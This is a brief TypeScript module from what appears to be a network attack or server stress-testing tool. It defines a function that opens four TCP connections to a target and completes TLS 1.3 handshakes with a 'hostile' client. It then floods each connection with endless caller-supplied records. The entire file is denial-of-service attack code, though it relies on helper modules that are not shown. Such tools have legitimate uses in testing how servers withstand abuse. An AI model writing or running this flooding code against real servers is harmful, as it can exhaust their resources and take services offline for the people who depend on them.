// What a client may send without end once its handshake of TLS 1.3 is complete.

import type { Target } from '../attack.ts'
import { attackConnections } from './connections.ts'
import { HostileTls13 } from './tls13.ts'

const CONNECTIONS = 4

/** @param flood the next records, as long as they are taken */
export function floodTls13(
  target: Target,
  signal: AbortSignal,
  flood: (tls: HostileTls13) => readonly Buffer[],
): Promise<void> {
  return attackConnections(target, signal, { connections: CONNECTIONS, transport: 'tcp' }, (wire) => {
    const tls = new HostileTls13(target.host)
    const pending: Buffer[] = [tls.hello]
    return {
      next() {
        const bytes = pending.shift()
        return bytes !== undefined || !tls.isReady ? bytes : Buffer.concat(flood(tls))
      },
      receive(bytes) {
        const answer = tls.receive(bytes)
        if (answer === undefined) return
        pending.push(answer)
        wire.more()
      },
    }
  })
}
